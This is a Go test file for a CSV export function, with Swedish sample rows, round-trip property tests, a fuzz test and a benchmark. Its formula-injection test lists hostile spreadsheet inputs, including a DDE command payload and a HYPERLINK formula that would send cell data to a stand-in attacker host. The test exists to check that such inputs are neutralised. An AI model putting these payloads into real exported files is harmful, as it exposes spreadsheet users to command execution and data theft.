package text

import (
	"bytes"
	"encoding/csv"
	"errors"
	"reflect"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"samverkan/internal/document"
	"samverkan/internal/fault"
)

func TestCSV(t *testing.T) {
	header := []string{"Nr", "Vad", "Ansvarig"}
	rows := [][]string{
		{"1", "Öppna ett körfält på väg 58", "Trafikverket"},
		{"2", "Lista, med komma; och semikolon", `Den "lilla" gården`},
		{"3", "två\nrader", ""},
		{"4", " utrymme ", "Sámi ŋ đ"},
	}
	for _, c := range []struct {
		o    CSVOptions
		want string
	}{
		{CSVOptions{}, "Nr,Vad,Ansvarig\r\n1,Öppna ett körfält på väg 58,Trafikverket\r\n2,\"Lista, med komma; och semikolon\",\"Den \"\"lilla\"\" gården\"\r\n3,\"två\r\nrader\",\"\"\r\n4,\" utrymme \",Sámi ŋ đ\r\n"},
		{CSVOptions{BOM: true, Semicolon: true}, "\ufeffNr;Vad;Ansvarig\r\n1;Öppna ett körfält på väg 58;Trafikverket\r\n2;\"Lista, med komma; och semikolon\";\"Den \"\"lilla\"\" gården\"\r\n3;\"två\r\nrader\";\"\"\r\n4;\" utrymme \";Sámi ŋ đ\r\n"},
	} {
		var b bytes.Buffer
		if err := CSV(&b, header, rows, c.o); err != nil {
			t.Fatal(err)
		}
		if b.String() != c.want {
			t.Errorf("%+v:\ngot  %q\nwant %q", c.o, b.String(), c.want)
		}
	}
	var b bytes.Buffer
	err := CSV(&b, header, append(rows, []string{"5"}), CSVOptions{})
	if f, ok := fault.As(err); !ok || f.Code != "text.csv-row" || f.Args["Row"] != 5 || b.Len() != 0 {
		t.Errorf("a short row gives %v and %d bytes", err, b.Len())
	}
	if err := CSV(failing{}, header, rows, CSVOptions{}); fault.CodeOf(err) != "text.write" {
		t.Errorf("a failed write gives %v", err)
	}
}

type failing struct{}

func (failing) Write([]byte) (int, error) { return 0, errors.New("disk full") }

// No cell begins as a formula, in any spreadsheet's eyes.
func TestCSVFormulas(t *testing.T) {
	for in, want := range map[string]string{
		`=1+1`: `"'=1+1"`, `+46101234567`: `"'+46101234567"`, `-5`: `"'-5"`, `@SUM(A1)`: `"'@SUM(A1)"`,
		"\t=1": `"' =1"`, "\r=1": "\"'\r\n=1\"", "\n=1": "\"'\r\n=1\"", " =1": `"' =1"`, "\u00a0=1": "\"'\u00a0=1\"", "\x00=1": `"'=1"`, "\u200b=1": `"'=1"`, "\ufeff=1": `"'=1"`,
		`＝1`: `"'＝1"`, `=cmd|' /C calc'!A0`: `"'=cmd|' /C calc'!A0"`, `=HYPERLINK("http://evil.example?x="&A1,"se")`: `"'=HYPERLINK(""http://evil.example?x=""&A1,""se"")"`,
		"\ttabb": `"' tabb"`, `a=1`: `a=1`, `3-5`: `3-5`, `'=1`: `'=1`, ``: `""`,
	} {
		if got := cell(in); got != want {
			t.Errorf("%q is written %q, want %q", in, got, want)
		}
	}
}

// What is read back is what was written, but for what is unseen and for the marks.
func TestCSVRoundTrip(t *testing.T) {
	text := rapid.OneOf(rapid.String(), rapid.StringOf(rapid.RuneFrom([]rune("=+-@\t\r\n,;\"' aå\x00\u202e\u200b"))))
	rapid.Check(t, func(t *rapid.T) {
		width := rapid.IntRange(1, 4).Draw(t, "width")
		rows := rapid.SliceOfN(rapid.SliceOfN(text, width, width), 1, 5).Draw(t, "rows")
		o := CSVOptions{BOM: rapid.Bool().Draw(t, "bom"), Semicolon: rapid.Bool().Draw(t, "semicolon")}
		var b bytes.Buffer
		if err := CSV(&b, rows[0], rows[1:], o); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff")))
		if o.Semicolon {
			r.Comma = ';'
		}
		got, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var want [][]string
		for _, row := range rows {
			var cells []string
			for _, c := range row {
				clean := document.Clean(c)
				if formula(c) || formula(clean) {
					clean = "'" + clean
				}
				cells = append(cells, clean)
			}
			want = append(want, cells)
		}
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("got %q, want %q from %q", got, want, b.String())
		}
		for _, row := range got {
			for _, c := range row {
				if strings.ContainsAny(strings.TrimLeft(c, " \n\u00a0")[:min(1, len(strings.TrimLeft(c, " \n\u00a0")))], "=+-@") {
					t.Fatalf("a cell begins as a formula: %q", c)
				}
			}
		}
	})
}

func FuzzCell(f *testing.F) {
	f.Add("=1")
	f.Add("\t\r\n=")
	f.Fuzz(func(t *testing.T, s string) {
		var b bytes.Buffer
		if err := CSV(&b, []string{s, "x"}, nil, CSVOptions{}); err != nil {
			t.Fatal(err)
		}
		got, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(got) != 1 || len(got[0]) != 2 {
			t.Fatalf("%q: %v %v", s, got, err)
		}
		if formula(got[0][0]) {
			t.Fatalf("%q is a formula: %q", s, got[0][0])
		}
	})
}

func BenchmarkCSV(b *testing.B) {
	row := []string{"12", "Öppna ett körfält på väg 58 förbi Forsen", "Trafikverket", "2027-01-07 06:00", "pågår"}
	rows := make([][]string, 1000)
	for i := range rows {
		rows[i] = row
	}
	for b.Loop() {
		var buf bytes.Buffer
		if err := CSV(&buf, row, rows, CSVOptions{BOM: true}); err != nil {
			b.Fatal(err)
		}
	}
}
